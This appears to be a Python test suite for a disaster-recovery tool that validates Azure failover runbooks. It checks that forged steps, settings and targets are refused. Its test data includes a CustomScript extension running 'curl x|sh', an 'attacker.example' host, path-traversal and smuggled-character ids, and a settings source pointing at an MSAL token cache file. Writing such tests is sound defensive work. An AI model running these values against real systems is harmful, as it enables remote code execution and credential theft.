"""What a step does follows from its product and action alone: a runbook that breaks a product's table is none, wherever it is read."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from drkit import products
from drkit.api.context import Context
from drkit.errors import FileError, IntegrityError, RefusedError, UsageError
from drkit.model import actions, guards, runbook
from drkit.model.actions import Tables
from drkit.model.runbook import Runbook, Step, Takeover
from drkit.model.settings import ChannelSettings, Settings
from drkit.planning import replicas
from drkit.store.store import Store
from tests.support.builders import (
    TARGET,
    a_plan,
    a_snapshot,
    a_vm,
    an_assessment,
    facts,
    hosted,
    make,
    managed,
    one_lost,
    state_of,
    verdict,
)
from tests.support.sample_runbooks import (
    ACCOUNT,
    MACHINE,
    a_worker,
    an_account,
    an_extension,
    every_book,
    worker_settings,
    workers_moved,
)

ARM = "https://management.azure.com"
TABLES: Tables = products.actions()
OWN = Settings()
BOOKS = every_book()
FAILOVER = BOOKS[0]
STEPS = {(step.product, step.action): (book, step) for book in BOOKS for step in book.steps}
NAMES = sorted(STEPS)


def with_step(book: Runbook, step: Step, **changed: Any) -> Runbook:
    other = msgspec.structs.replace(step, **changed)
    return msgspec.structs.replace(book, steps=tuple(other if one is step else one for one in book.steps))


def broken(book: Runbook) -> list[str]:
    return actions.faults(book.steps, TABLES)


def test_every_action_of_every_table_is_in_a_good_runbook_here() -> None:
    assert sorted((product, action) for product, table in TABLES.items() for action in table) == NAMES
    assert [broken(book) for book in BOOKS] == [[]] * len(BOOKS)


@pytest.mark.parametrize("name", NAMES, ids=":".join)
def test_a_step_announces_the_methods_of_its_row_and_its_writes_are_where_the_runbook_goes(
    name: tuple[str, str],
) -> None:
    _, step = STEPS[name]
    row = TABLES[step.product][step.action]
    requests = actions.announced(step, TABLES, ARM, OWN)
    assert {one.method for one in requests} == set(row.methods)
    assert all(one.target.startswith("https://") for one in requests)
    # Who only looks or asks sends nothing; who runs a script on a host to look sends that.
    assert bool(requests) or step.effect in ("verify", "ask")


EFFECTS = ("create", "register", "release", "disable", "verify", "wait", "ask", "delete")
ODD = st.one_of(
    st.text(max_size=20),
    st.sampled_from(
        ["/", "..", "/subscriptions/s", f"{MACHINE}/../other", f"{ACCOUNT}?x=1", "https://attacker.example", "a/b"]
    ),
)


@settings(max_examples=150)
@given(name=st.sampled_from(NAMES), effect=st.sampled_from(EFFECTS), other=st.sampled_from(NAMES), odd=ODD)
def test_another_effect_action_product_or_kind_of_target_is_refused(
    name: tuple[str, str], effect: str, other: tuple[str, str], odd: str
) -> None:
    book, step = STEPS[name]
    if effect != step.effect:
        assert broken(with_step(book, step, effect=effect))
    if other != name:
        product, action = other
        assert broken(with_step(book, step, product=product, action=action))
        assert broken(with_step(book, step, product=product, action=action, effect=TABLES[product][action].effect))
    if "/" in odd or not odd:
        assert broken(with_step(book, step, target=odd))


@settings(max_examples=300)
@given(name=st.sampled_from(NAMES), data=st.data())
def test_an_input_that_is_missing_unknown_or_of_another_kind_is_refused(
    name: tuple[str, str], data: st.DataObject
) -> None:
    book, step = STEPS[name]
    key = data.draw(st.text(min_size=1, max_size=12).filter(lambda one: one not in fields(step)))
    assert broken(with_step(book, step, inputs={**step.inputs, key: data.draw(st.sampled_from(["", 0, None]))}))
    if not step.inputs:
        return
    named = data.draw(st.sampled_from(sorted(step.inputs)))
    if named in {one.name for one in msgspec.structs.fields(row_of(step).inputs) if one.required}:
        assert broken(with_step(book, step, inputs={one: value for one, value in step.inputs.items() if one != named}))
    wrong = data.draw(st.sampled_from([["x", 1], {"x": {"y": 1}}, -1]))
    assert broken(with_step(book, step, inputs={**step.inputs, named: wrong}))


@settings(max_examples=300)
@given(name=st.sampled_from(NAMES), data=st.data())
def test_a_precondition_that_its_action_requires_cannot_be_left_out_or_changed(
    name: tuple[str, str], data: st.DataObject
) -> None:
    book, step = STEPS[name]
    assert actions.unheld(book, TABLES) == []
    required = list(row_of(step).required(step, actions.Occasion.of(book)))
    if not required:
        return
    one = data.draw(st.sampled_from(required))
    held = [it for it in step.preconditions if it.signal == one.signal and it.subject.lower() in one.subjects]
    forged: list[Any] = [
        tuple(it for it in step.preconditions if it not in held),
        tuple(msgspec.structs.replace(it, subject="/another") if it in held else it for it in step.preconditions),
        tuple(msgspec.structs.replace(it, signal="location") if it in held else it for it in step.preconditions),
    ]
    if one.expected is not actions.ANY:
        odd = data.draw(st.sampled_from([None, "", "perhaps", 0, 1]).filter(lambda value: value != one.expected))
        forged.append(
            tuple(msgspec.structs.replace(it, expected=odd) if it in held else it for it in step.preconditions)
        )
    other = with_step(book, step, preconditions=data.draw(st.sampled_from(forged)))
    if one.signal != "location" or other != book:
        assert any(step.id in fault and one.signal in fault for fault in actions.unheld(other, TABLES))
        with pytest.raises(FileError, match="does not depend on"):
            actions.check(other, TABLES, "x")
    older = msgspec.structs.replace(other, drkit="runbook/1", settings={}, target_plans={})
    actions.check(older, TABLES, "x")


def test_every_release_of_an_ungraceful_failover_depends_on_the_loss_of_the_plan_it_leaves() -> None:
    releases = [(book, step) for book in BOOKS for step in book.steps if step.effect == "release"]
    assert {step.product for _, step in releases} == {"codespaces", "hybrid-worker"}
    for book, step in releases:
        bare = tuple(one for one in step.preconditions if one.signal != "answers")
        (fault,) = actions.unheld(with_step(book, step, preconditions=bare), TABLES)
        assert f"answers = no of {step.plan.lower()}" in fault


def row_of(step: Step) -> actions.Action:
    return TABLES[step.product][step.action]


def fields(step: Step) -> set[str]:
    return {one.name for one in msgspec.structs.fields(row_of(step).inputs)}


def ids_in(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    """Where an input holds an ARM id or an address."""
    if isinstance(value, str) and value.startswith(("/subscriptions/", "https://")):
        yield path, value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from ids_in(inner, (*path, key))
    elif isinstance(value, list | tuple):
        for number, inner in enumerate(value):
            yield from ids_in(inner, (*path, number))


def changed_at(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    if isinstance(value, dict):
        return {key: changed_at(inner, path[1:], new) if key == path[0] else inner for key, inner in value.items()}
    return [changed_at(inner, path[1:], new) if number == path[0] else inner for number, inner in enumerate(value)]


@pytest.mark.parametrize("name", NAMES, ids=":".join)
def test_an_id_among_the_inputs_is_an_id_and_nothing_that_means_another_path(name: tuple[str, str]) -> None:
    book, step = STEPS[name]
    for path, value in ids_in(step.inputs):
        if path[-1] == "moniker" or path[0] in ("identity", "commands"):
            continue  # text for a service, a report or a person; no request is made of it
        for bad in (f"{value}/../x", f"{value}?a=b", f"{value}#x", f"{value}%2fx", f"{value}\n", f"{value}\\x"):
            assert broken(with_step(book, step, inputs=changed_at(step.inputs, path, bad))), (path, bad)


# what was tried


def reached(product: str, action: str) -> tuple[Runbook, Step]:
    return STEPS[product, action]


CUSTOM = {
    "publisher": "Microsoft.Azure.Extensions",
    "type": "CustomScript",
    "settings": {"commandToExecute": "curl x|sh"},
}


@pytest.mark.parametrize("action", ["release", "register"])
@pytest.mark.parametrize(
    "extension",
    [
        {"properties": CUSTOM},
        {"properties": {**CUSTOM, "publisher": "Microsoft.Azure.Automation.HybridWorker"}},
        {"properties": {**CUSTOM, "type": "HybridWorkerForLinux"}},
        {"name": "CustomScript"},
        {"name": "../x"},
        {"more": 1},
    ],
)
def test_no_extension_but_the_hybrid_workers_own_is_taken_off_or_installed(
    action: str, extension: dict[str, Any]
) -> None:
    book, step = reached("hybrid-worker", action)
    assert broken(with_step(book, step, inputs={**step.inputs, "extension": {**step.inputs["extension"], **extension}}))


def test_an_action_verifies_if_it_only_asks_and_a_look_from_a_host_does_not() -> None:
    verifying = {
        f"{product}:{name}" for product, table in TABLES.items() for name, row in table.items() if row.verifies
    }
    assert verifying == {
        "codespaces:verify-plan", "codespaces:verify", "codespaces:verify-elsewhere",
        "hybrid-worker:verify-plan", "hybrid-worker:verify", "hybrid-worker:verify-again", "hybrid-worker:verify-elsewhere",
    }  # fmt: skip


def test_a_verify_step_deletes_nothing() -> None:
    plan = a_plan("healthy", "southeastasia", "rg-sea")
    step = msgspec.structs.replace(
        FAILOVER.steps[-1], id="codespaces:zz:verify-all", product="codespaces", action="delete-plan", target=plan.id,
        effect="verify", title="see that the plans of other regions answer", inputs={}, needs=(), preconditions=(),
    )  # fmt: skip
    found = broken(msgspec.structs.replace(FAILOVER, steps=(*FAILOVER.steps, step)))
    assert any("the effect of delete-plan is delete, not verify" in fault for fault in found)


def test_a_deletion_in_a_failover_is_refused_by_the_guard_whatever_the_step_says_of_its_plan() -> None:
    _, step = reached("codespaces", "delete-plan")
    hidden = msgspec.structs.replace(FAILOVER, steps=(*FAILOVER.steps, msgspec.structs.replace(step, needs=())))
    results = {one.name: one for one in guards.check_runbook(hidden, TABLES, OWN, {step.target})}
    assert not results["no-deletion"].passed
    assert "https://" not in results["no-deletion"].detail


@pytest.mark.parametrize("force", ["no-deletion"])
def test_deletions_cannot_be_forced(force: str) -> None:
    with pytest.raises(UsageError, match="cannot be forced"):
        one_lost(managed("api", a_plan()), force={force: "because"})


def test_a_write_is_looked_at_by_its_url_and_not_by_what_the_step_says_of_its_plan() -> None:
    other = a_plan("healthy", "southeastasia", "rg-sea")
    create = next(step for step in FAILOVER.steps if (step.product, step.action) == ("codespaces", "create"))
    inputs = {**create.inputs, "plan": other.id, "body": {**create.inputs["body"], "planId": other.id}}
    results = {one.name: one for one in guards.check_runbook(with_step(FAILOVER, create, inputs=inputs), TABLES, OWN)}
    assert not results["only-source-plans"].passed
    assert f"{other.id}/writeDelegates" in results["only-source-plans"].detail
    release = next(step for step in FAILOVER.steps if step.action == "release")
    stranger = a_vm("stranger").id
    hosted_there = with_step(FAILOVER, release, host=stranger, inputs={**release.inputs, "host": stranger})
    assert broken(hosted_there) == []
    results = {one.name: one for one in guards.check_runbook(hosted_there, TABLES, OWN)}
    assert f"{stranger}/runCommand" in results["only-source-plans"].detail
    assert all(one.passed for one in guards.check_runbook(FAILOVER, TABLES, OWN))


RECORDED = "/subscriptions/s/resourceGroups/g/providers/Microsoft.VSOnline/plans/made"


@pytest.mark.parametrize(
    ("kind", "effect", "target", "host", "url", "allowed"),
    [
        ("cleanup", "delete", RECORDED, "", f"{ARM}{RECORDED}", True),
        ("failback", "delete", RECORDED, "", f"{ARM}{RECORDED.upper()}", True),
        ("failover", "delete", RECORDED, "", f"{ARM}{RECORDED}", False),
        ("repair", "delete", RECORDED, "", f"{ARM}{RECORDED}", False),
        ("cleanup", "delete", RECORDED, "", f"{ARM}{RECORDED}-2", False),
        ("cleanup", "delete", f"{RECORDED}-2", "", f"{ARM}{RECORDED}-2", False),
        ("cleanup", "delete", "record-1", "", "https://westeurope.example/api/v1/environments/record-1", True),
        ("cleanup", "delete", "record-2", "", "https://westeurope.example/api/v1/environments/record-2", False),
        ("cleanup", "verify", RECORDED, "", f"{ARM}{RECORDED}", False),
        ("failover", "release", "worker", MACHINE, f"{ARM}{MACHINE}/extensions/HybridWorkerExtension", True),
        ("failover", "release", "worker", MACHINE, f"{ARM}{MACHINE}", False),
        ("failover", "release", "worker", "", f"{ARM}/extensions/x", False),
        ("failover", "register", "worker", MACHINE, f"{ARM}{MACHINE}/extensions/HybridWorkerExtension", False),
    ],
)  # fmt: skip
def test_what_may_be_deleted(kind: Any, effect: Any, target: str, host: str, url: str, allowed: bool) -> None:
    book = msgspec.structs.replace(FAILOVER, kind=kind)
    step = msgspec.structs.replace(FAILOVER.steps[0], effect=effect, target=target, host=host)
    assert guards.may_delete(step, book, url, ARM, {RECORDED.lower(), "record-1"}) is allowed


# wherever it is read


def a_context(folder: Path) -> Context:
    return Context(Settings(), Store(folder), lambda: pytest.fail("no cloud is needed"))


def test_a_runbook_that_breaks_a_table_is_read_nowhere(tmp_path: Path) -> None:
    book, step = reached("hybrid-worker", "register")
    bad = runbook.encode(
        with_step(book, step, inputs={**step.inputs, "extension": {"name": "x", "properties": CUSTOM}})
    )
    context = a_context(tmp_path / "store")
    path = context.store.keep_runbook(bad)
    for name in ("latest", runbook.digest(bad), str(path)):
        with pytest.raises(FileError, match="no runbook that this drkit carries out") as error:
            context.store.runbook(name)
        assert error.value.exit_code == 64
        assert step.id in error.value.what
    good = context.store.keep_runbook(runbook.encode(book))
    assert context.store.runbook(good.stem)[0] == book


def test_a_digest_means_those_bytes_wherever_a_link_leads(tmp_path: Path) -> None:
    context = a_context(tmp_path / "store")
    kept = context.store.keep_runbook(runbook.encode(FAILOVER))
    outside = tmp_path / "forged.json"
    outside.write_bytes(runbook.encode(msgspec.structs.replace(FAILOVER, drkit_version="forged")))
    kept.unlink()
    kept.symlink_to(outside)
    for name in (kept.stem, kept.stem[:12], str(kept), "latest"):
        with pytest.raises((RefusedError, FileError)):
            context.store.runbook(name)


def test_a_journal_that_names_a_path_for_its_runbook_is_refused(tmp_path: Path) -> None:
    import asyncio

    from drkit.model.clock import SystemClock

    context = a_context(tmp_path / "store")
    outside = tmp_path / "forged.json"
    outside.write_bytes(runbook.encode(FAILOVER))

    async def write() -> str:
        run = context.store.new_run()
        async with context.store.open_journal(run, SystemClock()) as journal:
            await journal.append("started", data={"runbook": os.fspath(outside), "holder": "x"})
        return run

    run = asyncio.run(write())
    with pytest.raises(IntegrityError, match="no digest"):
        context.store.state(run)


# one fault takes nothing else down


def test_what_was_recorded_badly_of_one_environment_leaves_that_one_alone_and_no_other() -> None:
    bad = managed("bad", a_plan(), settings={"gitConfig": None, "autoShutdownDelayMinutes": "soon"})
    book = one_lost(managed("api", a_plan()), bad)
    assert {one.name: bool(one.proof_step) for one in book.environments} == {"api": True, "bad": False}
    waits = next(one for one in book.environments if one.name == "bad")
    assert "what was recorded of it cannot be carried out" in waits.reason
    assert broken(book) == []


def test_a_runbook_of_the_first_format_is_read_and_carries_nothing_of_the_second() -> None:
    told = json.loads(runbook.encode(FAILOVER))
    for key in ("settings", "target_plans"):
        del told[key]
    told["drkit"] = "runbook/1"
    first = json.dumps(told, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"
    found = runbook.decode(first, "x")
    assert (found.drkit, found.target_plans, found.settings) == ("runbook/1", {}, {})
    assert broken(found) == []
    assert all(one.passed for one in guards.check_runbook(found, TABLES, OWN))
    mixed = msgspec.structs.replace(found, target_plans={"a": Takeover("b", "c")})
    with pytest.raises(FileError, match="keys of runbook/2"):
        runbook.decode(runbook.encode(mixed), "x")


# the settings that are approved with it


WORKERS = BOOKS[2]
PROTECTED = f"products.hybrid-worker.protected of {MACHINE}"


def test_a_runbook_names_the_settings_that_change_what_it_does() -> None:
    assert FAILOVER.settings["products.codespaces.service"] == "online.visualstudio.com"
    assert FAILOVER.settings["targets names eastus"] == "yes"
    assert [key for key in FAILOVER.settings if key.startswith("channel of ")] == [f"channel of {a_vm('box').id}"]
    assert WORKERS.settings[PROTECTED] == "none"
    assert WORKERS.settings[f"products.hybrid-worker.replicas of {ACCOUNT}"] == "none"
    assert actions.differences(WORKERS, TABLES, worker_settings()) == []


SAID: list[tuple[Runbook, Settings, str]] = [
    (FAILOVER, Settings(products={"codespaces": {"service": "attacker.example"}}), "products.codespaces.service is attacker.example"),
    (FAILOVER, Settings(targets=["westus2"]), "targets names eastus is no"),
    (FAILOVER, Settings(channels=ChannelSettings(azure_vm="manual")), "is manual, and none was approved"),
    (WORKERS, worker_settings(protected={"worker-1": "env:SECRET"}), f"{PROTECTED} is env:SECRET, and none was approved"),
    (WORKERS, worker_settings(replicas={"auto": f"{ACCOUNT}-other"}), f"{ACCOUNT}-other, and none was approved"),
]  # fmt: skip


@pytest.mark.parametrize(("book", "own", "said"), SAID)
def test_a_setting_that_is_another_one_by_then_is_named_with_both_values(
    book: Runbook, own: Settings, said: str
) -> None:
    assert any(said in text for text in actions.differences(book, TABLES, own)), actions.differences(book, TABLES, own)


def test_a_source_of_protected_settings_that_drkit_toml_does_not_name_is_refused_in_every_format() -> None:
    book, step = reached("hybrid-worker", "register")
    forged = with_step(book, step, inputs={**step.inputs, "protected": "file:/home/op/msal_token_cache.json"})
    forged = msgspec.structs.replace(
        forged, settings={**forged.settings, PROTECTED: "file:/home/op/msal_token_cache.json"}
    )
    assert any("msal_token_cache" in text for text in actions.differences(forged, TABLES, worker_settings()))
    older = msgspec.structs.replace(forged, drkit="runbook/1", settings={}, target_plans={})
    assert any("msal_token_cache" in text for text in actions.differences(older, TABLES, worker_settings()))


def test_a_setting_that_a_runbook_leaves_out_or_adds_is_a_difference() -> None:
    bare = msgspec.structs.replace(FAILOVER, settings={})
    assert any("nothing was approved" in text for text in actions.differences(bare, TABLES, OWN))
    more = msgspec.structs.replace(FAILOVER, settings={**FAILOVER.settings, "x": "y"})
    assert actions.differences(more, TABLES, OWN) == ["x is not set, and y was approved"]
    older = msgspec.structs.replace(bare, drkit="runbook/1", target_plans={})
    assert actions.differences(older, TABLES, Settings(products={"codespaces": {"service": "other.example"}})) == []


def test_an_extension_that_is_not_the_hybrid_workers_own_goes_to_a_person_without_it() -> None:
    book = workers_moved({"name": "HybridWorkerExtension", "properties": CUSTOM})
    worker = [step.action for step in book.steps if step.environment == "id-worker-1"]
    assert "release" not in worker
    assert "by-hand" in worker
    assert b"CustomScript" not in runbook.encode(book)


def test_a_key_vaults_secret_is_used_where_drkit_toml_names_that_very_one() -> None:
    secret = "https://vault.example/secrets/proxy/1"
    held = an_extension(
        an_account(), protectedSettingsFromKeyVault={"secretUrl": secret, "sourceVault": {"id": "/subscriptions/s"}}
    )
    for own, way in (
        ({}, "by-hand"),
        ({"worker-1": "vault:https://other.example/x"}, "by-hand"),
        ({"worker-1": f"vault:{secret}"}, "release"),
    ):
        book = workers_moved(held, worker_settings(protected=own))
        assert way in [step.action for step in book.steps if step.environment == "id-worker-1"]
        assert broken(book) == []


# what takes over


def taken_over(*present: Any, own: Settings | None = None, made: dict[str, str] | None = None) -> Runbook:
    account, host = an_account(), a_vm("worker-1")
    return make(
        a_snapshot([account], [a_worker("worker-1", account, host.id)], [host]),
        an_assessment(
            [state_of(account, "lost")], [verdict(host)], [facts(product="hybrid-worker")], present_plans=present
        ),
        own or worker_settings(),
        made=made,
    )


def test_a_tag_wins_over_no_other_and_two_that_may_take_over_are_refused_with_both_named() -> None:
    source = an_account()
    prepared = an_account("auto-dr", TARGET, id=f"{ACCOUNT}-dr", tags={"drkit-target": "true"})
    forged = an_account("auto-evil", TARGET, id=f"{ACCOUNT}-evil", tags={"drkit-source": source.id})
    alone = taken_over(prepared)
    assert alone.target_plans[source.id].plan == prepared.id
    assert "by its tags alone (drkit-target = true)" in alone.target_plans[source.id].why
    with pytest.raises(RefusedError) as error:
        taken_over(prepared, forged)
    assert prepared.id in error.value.what
    assert forged.id in error.value.what
    assert "`replicas`" in error.value.what
    named = taken_over(prepared, forged, own=worker_settings(replicas={"auto": prepared.id}))
    assert named.target_plans[source.id] == Takeover(prepared.id, "drkit.toml names it")
    assert taken_over(msgspec.structs.replace(forged, subscription="another")).target_plans[source.id].plan != forged.id


def test_what_a_journal_says_drkit_made_leaves_out_what_a_tag_alone_speaks_for() -> None:
    source = an_account()
    ours = an_account("auto-eastus", TARGET, id=f"{ACCOUNT}-eastus", tags={"drkit-source": source.id})
    forged = an_account("auto-evil", TARGET, id=f"{ACCOUNT}-evil", tags={"drkit-source": source.id})
    book = taken_over(ours, forged, made={ours.id.lower(): source.id.lower()})
    assert book.target_plans[source.id] == Takeover(ours.id, "an earlier run made it, as its journal says")
    with pytest.raises(RefusedError):
        taken_over(ours, forged, made={ours.id.lower(): "/another/source"})


def test_a_target_is_a_candidate_unless_drkit_toml_or_a_journal_names_it_whatever_the_file_says_of_it() -> None:
    source = an_account()
    prepared = an_account("auto-dr", TARGET, id=f"{ACCOUNT}-dr", tags={"drkit-target": "true"})
    book, own = taken_over(prepared), worker_settings(replicas={"auto": prepared.id})
    assert list(replicas.candidates(book, worker_settings(), {})) == [prepared.id]
    assert replicas.candidates(book, own, {}) == {}
    assert replicas.candidates(book, worker_settings(), {prepared.id.lower(): source.id.lower()}) == {}
    other = worker_settings(replicas={"another": prepared.id})
    assert list(replicas.candidates(book, other, {prepared.id.lower(): "/another/source"})) == [prepared.id]
    for forged in (
        {source.id: Takeover(prepared.id, "drkit.toml names it")},
        {},
        {source.id: Takeover(f"{ACCOUNT}-harmless", "this runbook makes it")},
    ):
        assert prepared.id in replicas.candidates(
            msgspec.structs.replace(book, target_plans=forged), worker_settings(), {}
        )
    anew = taken_over()
    assert replicas.candidates(anew, worker_settings(), {}) == {}


def test_a_machine_that_could_not_be_known_again_is_released_by_nobody_but_a_person() -> None:
    host = a_vm("box")
    bare = msgspec.structs.replace(host, baseline=msgspec.structs.replace(host.baseline, arm=None))
    moved = one_lost(hosted("web", a_plan(), bare), hosts=[bare])
    assert "release" not in [step.action for step in moved.steps]
    assert "by-hand" in [step.action for step in moved.steps]
    account = an_account()
    workers = make(
        a_snapshot([account], [a_worker("box", account, host.id)], [bare]),
        an_assessment([state_of(account, "lost")], [verdict(bare)], [facts(product="hybrid-worker")]),
        worker_settings(),
    )
    assert "release" not in [step.action for step in workers.steps]
    assert "by-hand" in [step.action for step in workers.steps]
